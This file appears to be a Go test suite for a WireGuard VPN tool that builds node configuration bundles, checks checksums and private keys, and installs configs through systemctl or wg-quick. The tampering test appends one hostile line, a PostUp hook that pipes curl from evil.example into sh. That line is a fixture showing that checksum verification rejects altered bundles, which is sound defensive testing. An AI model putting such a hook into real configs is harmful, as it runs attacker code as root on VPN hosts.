@@ -0,0 +1,242 @@
+package wedev
+
+import (
+	"archive/tar"
+	"compress/gzip"
+	"context"
+	"errors"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// newBundleTestNetwork creates network "office" with a server and nodes n1
+// and n2, and returns a generator and the private keys of all three.
+func newBundleTestNetwork(t *testing.T) (*WireGuardConfigGenerator, map[string]string) {
+	t.Helper()
+	vnm, sm := newTestManager(t)
+	if _, err := vnm.CreateVirtualNetwork("office", "10.0.0.0/24"); err != nil {
+		t.Fatalf("CreateVirtualNetwork() error = %v", err)
+	}
+	server, err := vnm.CreateServer("office", "hub", "vpn.example.com", 51820)
+	if err != nil {
+		t.Fatalf("CreateServer() error = %v", err)
+	}
+	keys := map[string]string{"hub": server.PrivateKey}
+	for _, name := range []string{"n1", "n2"} {
+		node, err := vnm.CreateNode("office", name, "", 0, NodeTypeRoute)
+		if err != nil {
+			t.Fatalf("CreateNode() error = %v", err)
+		}
+		keys[name] = node.PrivateKey
+	}
+	return NewWireGuardConfigGenerator(sm), keys
+}
+
+// readTarGz returns the regular files of a .tar.gz file with their modes.
+func readTarGz(t *testing.T, path string) (map[string]string, map[string]int64) {
+	t.Helper()
+	f, err := os.Open(path)
+	if err != nil {
+		t.Fatalf("Open() error = %v", err)
+	}
+	defer f.Close()
+	gz, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatalf("gzip.NewReader() error = %v", err)
+	}
+	files, modes := map[string]string{}, map[string]int64{}
+	tr := tar.NewReader(gz)
+	for {
+		header, err := tr.Next()
+		if errors.Is(err, io.EOF) {
+			return files, modes
+		}
+		if err != nil {
+			t.Fatalf("tar Next() error = %v", err)
+		}
+		if header.Typeflag != tar.TypeReg {
+			continue
+		}
+		data, _ := io.ReadAll(tr)
+		files[header.Name], modes[header.Name] = string(data), header.Mode
+	}
+}
+
+func TestNodeBundle_RoundTrip(t *testing.T) {
+	gen, keys := newBundleTestNetwork(t)
+
+	bundle, err := gen.BuildNodeBundle(context.Background(), "office", "n1", "wg0")
+	if err != nil {
+		t.Fatalf("BuildNodeBundle() error = %v", err)
+	}
+	if bundle.Metadata.Config != "wg0.conf" || bundle.Metadata.Node != "n1" || len(bundle.Metadata.SHA256) != 64 {
+		t.Errorf("Metadata = %+v, want wg0.conf of n1 with a SHA-256", bundle.Metadata)
+	}
+
+	for _, name := range []string{"n1.tar.gz", "n1.zip"} {
+		path := filepath.Join(t.TempDir(), name)
+		if err := WriteNodeBundle(path, bundle); err != nil {
+			t.Fatalf("WriteNodeBundle(%s) error = %v", name, err)
+		}
+		read, err := ReadNodeBundle(path)
+		if err != nil {
+			t.Fatalf("ReadNodeBundle(%s) error = %v", name, err)
+		}
+		if read.Config != bundle.Config || read.Metadata.SHA256 != bundle.Metadata.SHA256 || !read.Metadata.CreatedAt.Equal(bundle.Metadata.CreatedAt) {
+			t.Errorf("ReadNodeBundle(%s) = %+v, want what was written", name, read.Metadata)
+		}
+	}
+
+	path := filepath.Join(t.TempDir(), "n1.tgz")
+	if err := WriteNodeBundle(path, bundle); err != nil {
+		t.Fatalf("WriteNodeBundle() error = %v", err)
+	}
+	files, modes := readTarGz(t, path)
+	wantModes := map[string]int64{"n1/wg0.conf": 0o600, "n1/install.sh": 0o700, "n1/metadata.json": 0o600}
+	if !reflect.DeepEqual(modes, wantModes) {
+		t.Errorf("bundle entries = %v, want %v", modes, wantModes)
+	}
+	if !strings.HasPrefix(files["n1/install.sh"], "#!/bin/sh\n") || !strings.Contains(files["n1/install.sh"], "SHA256='"+bundle.Metadata.SHA256+"'") {
+		t.Errorf("install.sh does not check the config's checksum:\n%s", files["n1/install.sh"])
+	}
+	if !strings.Contains(files["n1/wg0.conf"], keys["n1"]) {
+		t.Error("bundle config lacks the node's private key")
+	}
+	for _, content := range files {
+		if strings.Contains(content, keys["hub"]) || strings.Contains(content, keys["n2"]) {
+			t.Error("bundle holds another entity's private key")
+		}
+	}
+
+	if _, err := gen.BuildNodeBundle(context.Background(), "office", "hub", ""); !errors.Is(err, ErrNotFound) {
+		t.Errorf("BuildNodeBundle(server) error = %v, want ErrNotFound", err)
+	}
+	if _, err := gen.BuildNodeBundle(context.Background(), "office", "n1", "a/b"); !errors.Is(err, ErrValidation) {
+		t.Errorf("BuildNodeBundle(bad interface) error = %v, want ErrValidation", err)
+	}
+}
+
+func TestReadNodeBundle_Tampered(t *testing.T) {
+	gen, _ := newBundleTestNetwork(t)
+	bundle, err := gen.BuildNodeBundle(context.Background(), "office", "n1", "")
+	if err != nil {
+		t.Fatalf("BuildNodeBundle() error = %v", err)
+	}
+	bundle.Config += "PostUp = curl evil.example | sh\n"
+	path := filepath.Join(t.TempDir(), "n1.tar.gz")
+	if err := WriteNodeBundle(path, bundle); err != nil {
+		t.Fatalf("WriteNodeBundle() error = %v", err)
+	}
+
+	if _, err := ReadNodeBundle(path); !errors.Is(err, ErrValidation) || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Errorf("ReadNodeBundle() error = %v, want a checksum mismatch", err)
+	}
+
+	// install.sh checks the checksum before anything else it does.
+	if _, err := exec.LookPath("sh"); err != nil {
+		t.Skip("sh not found")
+	}
+	if _, err := exec.LookPath("sha256sum"); err != nil {
+		t.Skip("sha256sum not found")
+	}
+	dir := t.TempDir()
+	files, _ := readTarGz(t, path)
+	for name, content := range files {
+		target := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(target), 0o700); err != nil {
+			t.Fatalf("MkdirAll() error = %v", err)
+		}
+		if err := os.WriteFile(target, []byte(content), 0o600); err != nil {
+			t.Fatalf("WriteFile() error = %v", err)
+		}
+	}
+	out, err := exec.Command("sh", filepath.Join(dir, "n1", "install.sh")).CombinedOutput()
+	if err == nil || !strings.Contains(string(out), "checksum mismatch") {
+		t.Errorf("install.sh on a tampered config = %q, %v; want a checksum mismatch", out, err)
+	}
+}
+
+func TestReadNodeBundle_NotABundle(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "configs.tar.gz")
+	archive := &ConfigArchive{Network: "office", Configs: map[string]string{"n1": "[Interface]\n"}}
+	if err := WriteConfigArchive(path, archive); err != nil {
+		t.Fatalf("WriteConfigArchive() error = %v", err)
+	}
+	if _, err := ReadNodeBundle(path); !errors.Is(err, ErrValidation) {
+		t.Errorf("ReadNodeBundle(config archive) error = %v, want ErrValidation", err)
+	}
+}
+
+func TestCheckOnlyPrivateKey(t *testing.T) {
+	config := "[Interface]\nPrivateKey = mine\n\n[Peer]\nPublicKey = theirs\n"
+	if err := checkOnlyPrivateKey(config, "mine"); err != nil {
+		t.Errorf("checkOnlyPrivateKey(own key) error = %v", err)
+	}
+	if err := checkOnlyPrivateKey(config+"PrivateKey = leaked\n", "mine"); err == nil {
+		t.Error("checkOnlyPrivateKey() accepted a second private key")
+	}
+}
+
+func TestBundleInstaller_Install(t *testing.T) {
+	gen, _ := newBundleTestNetwork(t)
+	bundle, err := gen.BuildNodeBundle(context.Background(), "office", "n1", "")
+	if err != nil {
+		t.Fatalf("BuildNodeBundle() error = %v", err)
+	}
+	newInstaller := func(euid int, missing ...string) (*BundleInstaller, *fakeRunner) {
+		runner := &fakeRunner{missing: map[string]bool{}, fail: map[string]bool{}}
+		for _, tool := range missing {
+			runner.missing[tool] = true
+		}
+		return &BundleInstaller{runner: runner, geteuid: func() int { return euid }}, runner
+	}
+	dir := t.TempDir()
+
+	bi, runner := newInstaller(0)
+	plan := bi.Plan(bundle, dir)
+	if err := bi.Install(context.Background(), plan, false); err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+	want := []string{"systemctl enable wg-quick@office", "systemctl restart wg-quick@office"}
+	if !reflect.DeepEqual(runner.calls, want) {
+		t.Errorf("Install() ran %v, want %v", runner.calls, want)
+	}
+	info, err := os.Stat(filepath.Join(dir, "office.conf"))
+	if err != nil || info.Mode().Perm() != 0o600 {
+		t.Errorf("installed config = %v, %v; want office.conf readable by its owner only", info, err)
+	}
+
+	// Without systemd, wg-quick brings the interface up directly.
+	bi, runner = newInstaller(0, "systemctl")
+	if err := bi.Install(context.Background(), bi.Plan(bundle, dir), false); err != nil {
+		t.Fatalf("Install() without systemctl error = %v", err)
+	}
+	if len(runner.calls) != 2 || !strings.HasPrefix(runner.calls[1], "wg-quick up ") {
+		t.Errorf("Install() without systemctl ran %v, want wg-quick down/up", runner.calls)
+	}
+
+	// Other content is replaced only with force.
+	if err := os.WriteFile(plan.ConfigPath, []byte("[Interface]\n"), 0o600); err != nil {
+		t.Fatalf("WriteFile() error = %v", err)
+	}
+	if err := bi.Install(context.Background(), plan, false); !errors.Is(err, ErrAlreadyExists) {
+		t.Errorf("Install() over another config error = %v, want ErrAlreadyExists", err)
+	}
+	if err := bi.Install(context.Background(), plan, true); err != nil {
+		t.Errorf("Install(force) error = %v", err)
+	}
+
+	bi, runner = newInstaller(1000)
+	if err := bi.Install(context.Background(), plan, true); err == nil || len(runner.calls) != 0 {
+		t.Errorf("Install() as non-root = %v, ran %v; want a root error", err, runner.calls)
+	}
+	bi, _ = newInstaller(0, "wg-quick")
+	if err := bi.Install(context.Background(), plan, true); err == nil || !strings.Contains(err.Error(), "wireguard-tools") {
+		t.Errorf("Install() without wg-quick error = %v", err)
+	}
+}